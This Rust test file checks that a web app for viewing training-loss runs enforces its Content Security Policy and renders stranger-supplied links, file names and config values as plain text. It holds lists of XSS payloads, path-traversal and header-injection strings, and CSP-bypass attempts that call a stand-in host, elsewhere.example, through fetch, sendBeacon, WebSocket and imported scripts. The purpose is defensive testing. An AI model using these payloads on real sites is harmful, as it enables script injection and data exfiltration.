//! What a stranger writes, in a link, a list or a file, stays text; and the page's policy holds should it ever not.

use anyhow::{Result, ensure};
use browser_tests::{Hub, Page, flow, runs};
use percent_encoding::{NON_ALPHANUMERIC, utf8_percent_encode};
use serde_json::json;

const SMALL: &str = "?source=samples&runs=add_d5_l2_h3_t15K_s100001";
const RUN: &str = "add_d5_l2_h3_t15K_s372001";
const IMAGE: &str = "<img src=x onerror=\"window.ran=1\">";

#[tokio::test]
async fn the_policy_stops_what_is_not_the_pages_own() -> Result<()> {
    let hub = Hub::start().await?;
    // Each would leave its mark in `ran`, or a request to another host.
    let attempts = [
        "append('script', {textContent: 'ran.push(1)'})",
        "append('script', {src: 'https://elsewhere.example/x.js'})",
        "append('script', {src: 'data:text/javascript,ran.push(1)'})",
        "append('script', {src: URL.createObjectURL(new Blob(['ran.push(1)'], {type: 'text/javascript'}))})",
        "append('div').innerHTML = '<img src=x onerror=\"ran.push(1)\"><svg onload=\"ran.push(1)\">'",
        "append('button').setAttribute('onclick', 'ran.push(1)') ?? document.body.lastChild.click()",
        "append('a', {href: 'javascript:ran.push(1)'}).click()",
        "append('iframe', {src: 'javascript:parent.ran.push(1)'})",
        "append('iframe', {srcdoc: '<script>parent.ran.push(1)</scr' + 'ipt>'})",
        "append('iframe', {src: 'https://elsewhere.example/'})",
        "append('object', {data: 'https://elsewhere.example/'})",
        "append('img', {src: 'https://elsewhere.example/x.png'})",
        "append('link', {rel: 'stylesheet', href: 'https://elsewhere.example/x.css'})",
        "append('form', {action: 'https://elsewhere.example/', method: 'post'}).submit()",
        "append('base', {href: 'https://elsewhere.example/'}) && fetch('relative')",
        "eval('ran.push(1)')",
        "new Function('ran.push(1)')()",
        "setTimeout('ran.push(1)')",
        "import('https://elsewhere.example/x.js')",
        "import('data:text/javascript,ran.push(1)')",
        "fetch('https://elsewhere.example/x')",
        "fetch('https://huggingface.co.elsewhere.example/x')",
        "fetch('https://hf.co.elsewhere.example/x')",
        "new WebSocket('wss://elsewhere.example/')",
        "new EventSource('https://elsewhere.example/')",
        "navigator.sendBeacon('https://elsewhere.example/', 'x')",
        "worker('await fetch(\"https://elsewhere.example/x\")')",
        "worker('await import(\"https://elsewhere.example/x.js\")')",
        "worker('await import(\"data:text/javascript,postMessage(1)\")')",
        "worker('importScripts(\"https://elsewhere.example/x.js\")')",
        "worker('eval(\"postMessage(1)\")')",
        "worker('new Worker(URL.createObjectURL(new Blob([`fetch(\"https://elsewhere.example/x\").catch(() => 0)`])))')",
    ];
    flow("policy", &hub, async |page| {
        page.open(SMALL).await?.wait_painted().await?;
        for attempt in attempts {
            let ran: u64 = page
                .eval(&format!(
                    "(async () => {{
                        window.ran = [];
                        let stopped;
                        const event = new Promise(then => addEventListener('securitypolicyviolation', then, {{once: true}}));
                        const append = (name, properties = {{}}) => {{
                            const element = Object.assign(document.createElement(name), properties);
                            document.body.append(element);
                            return element;
                        }};
                        // Of the page's own making, as its thread is; it says 1 where it did what it should not, then 0.
                        const worker = source => new Promise(then => {{
                            const whole = `(async () => {{ try {{ ${{source}} }} catch {{}} postMessage(0); }})()`;
                            new Worker(URL.createObjectURL(new Blob([whole]))).onmessage = ({{data}}) => {{
                                if (data === 1) ran.push(1);
                                else then();
                            }};
                        }});
                        // Not on behalf of the driver, which the policy does not bind.
                        await new Promise(then => setTimeout(then));
                        try {{ await Promise.race([{attempt}, event]); }} catch {{}}
                        await Promise.race([event, new Promise(then => setTimeout(then, 1000))]);
                        await new Promise(then => setTimeout(then, 20));
                        return ran.length;
                    }})()"
                ))
                .await?;
            assert_eq!(ran, 0, "{attempt}");
            let strays = hub.strays();
            ensure!(strays.is_empty(), "{attempt} asks {strays:?}");
        }
        page.forgive("Content Security Policy").await?;
        Ok(())
    })
    .await
}

/// The app's own script, and no other element that could run or load anything; no link leads elsewhere.
async fn is_harmless(page: &Page, what: &str) -> Result<()> {
    let strange: Vec<String> = page
        .eval(
            "Array.from(document.querySelectorAll(
                    'script:not([data-wasm]), img, svg:not(svg svg), iframe, object, embed, base, form[action], a, link'))
                .filter(element => {
                    const address = element.href ?? (element.matches('svg, form') ? location.href : '');
                    return !address || ![location.origin, 'https://huggingface.co'].includes(new URL(address).origin);
                })
                .map(element => element.outerHTML.slice(0, 200))",
        )
        .await?;
    assert_eq!(strange, [""; 0], "{what}");
    ensure!(
        page.eval::<bool>("window.ran === undefined").await?,
        "{what} ran"
    );
    ensure!(
        page.eval::<bool>("document.documentElement.scrollWidth <= innerWidth")
            .await?,
        "{what} makes the page wider than its window"
    );
    Ok(())
}

#[tokio::test]
async fn nothing_in_a_link_gets_out_of_its_place() -> Result<()> {
    let hub = Hub::start().await?;
    hub.run(RUN, runs::file_of(RUN, 600));
    let long = "a".repeat(10_000);
    let hostile = [
        IMAGE,
        "\"><script>window.ran=1</script>",
        "javascript:window.ran=1",
        "data:text/html,<script>window.ran=1</script>",
        "..",
        "../../../../x.json",
        "a/../../../x.json",
        "a/..%2f..%2fx.json",
        "%2e%2e/%2e%2e/x.json",
        "..\\..\\x.json",
        "//elsewhere.example/x.json",
        "https://elsewhere.example/x.json",
        "me@elsewhere.example/x.json",
        "/etc/passwd.json",
        "x.json?y#z",
        "\u{202e}nosj.x",
        "a\u{200b}\u{2066}.json",
        "\0.json",
        "a\r\nX: y.json",
        "損失/\u{1f4a5}.json",
        &long,
        &format!("{long}.json"),
    ];
    flow("hostile_links", &hub, async |page| {
        for text in hostile {
            let value = utf8_percent_encode(text, NON_ALPHANUMERIC);
            for query in [
                format!("?runs={value},{RUN}&hide={value}&{value}={value}"),
                format!("?runs={RUN}&repo={value}&rev={value}"),
                format!("?repo=me/models&rev={value}&theme={value}"),
                format!("?repo={value}"),
                format!("?model={value}"),
            ] {
                page.open(&query).await?.wait_painted().await?;
                is_harmless(page, &query).await?;
                let told = page
                    .texts(".notice, .legend-message, .problem, #progress")
                    .await?;
                ensure!(
                    !told.concat().contains(['\u{202e}', '\0']),
                    "{query}: {told:?}"
                );
            }
            // Whatever else is in the link, a run that can be drawn is drawn.
            page.open(&format!("?runs={value},{RUN}"))
                .await?
                .wait_painted()
                .await?;
            assert_eq!(page.runs_in("drawn").await?, [RUN], "{text}");
            let told = page.legend().await?;
            ensure!(
                told.iter()
                    .all(|entry| entry.run == RUN || entry.message.is_some()),
                "{told:?}"
            );
        }
        for seen in hub.requests() {
            let parts: Vec<&str> = seen.path.trim_start_matches('/').split('/').collect();
            let is_of_hub = matches!(
                parts[..],
                [_, _, "resolve", _, ..]
                    | ["api", "models", _, _, "tree", _]
                    | ["api", "resolve-cache", "models", ..]
            );
            ensure!(
                is_of_hub || seen.path.starts_with("/api/models?"),
                "{}",
                seen.path
            );
        }
        Ok(())
    })
    .await
}

#[tokio::test]
async fn what_a_list_or_a_file_says_is_shown_as_text() -> Result<()> {
    let hub = Hub::start().await?;
    let long = "a".repeat(900);
    let listed = [IMAGE, "a?b#c%2f", &long, "x&y=z,w", "損失"];
    for name in listed.iter().chain(&["\u{202e}x", "..\\.."]) {
        hub.file(
            "me/models",
            &format!("{name}_train.json"),
            runs::file_of(RUN, 600),
        );
    }
    let mut config = runs::config(RUN, 600);
    config["act_fn"] = json!(IMAGE);
    config[IMAGE] = json!([{"x": "\u{202e}<script>window.ran=1</script>"}]);
    config["hf_repo"] = json!("javascript:window.ran=1");
    config["model_name"] = json!("b".repeat(10_000));
    hub.run(RUN, runs::file_with(&config, &[2.0, 1.0, 0.5]));
    let refused = "add_d5_l2_h3_t15K_s000001";
    hub.run(
        refused,
        format!(r#"{{"TrainingLoss": [{}]}}"#, json!(IMAGE.repeat(1000))),
    );
    flow("hostile_files", &hub, async |page| {
        page.open("?repo=me/models").await?.wait_painted().await?;
        is_harmless(page, "a list").await?;
        let drawn = page.runs_in("drawn").await?;
        for name in listed {
            ensure!(
                drawn.contains(&format!("{name}_train.json")),
                "{name}: {drawn:?}"
            );
        }
        page.reload().await?.wait_painted().await?;
        assert_eq!(page.runs_in("drawn").await?, drawn);
        // Named in the address, each is the same again.
        page.unfold("#chooser").await?;
        page.click_button("Compare all")
            .await?
            .wait_drawn(drawn.len())
            .await?;
        page.reload().await?.wait_painted().await?;
        assert_eq!(page.runs_in("drawn").await?, drawn);
        is_harmless(page, "names of a list").await?;

        page.open(&format!("?model={RUN}&w=1"))
            .await?
            .wait_painted()
            .await?;
        page.unfold(".model details").await?;
        is_harmless(page, "settings").await?;
        let words = page.text(".model").await?.unwrap_or_default();
        for text in [IMAGE, "<script>", "javascript:window.ran=1"] {
            ensure!(
                words.contains(&text.replace('"', "\\\"")) || words.contains(text),
                "{text}: {words:.2000}"
            );
        }

        page.open(&format!("?runs={refused}"))
            .await?
            .wait_painted()
            .await?;
        is_harmless(page, "a refusal").await?;
        let message = page.entry(refused).await?.message.unwrap_or_default();
        ensure!(message.contains("<img") && message.len() < 400, "{message}");
        Ok(())
    })
    .await
}
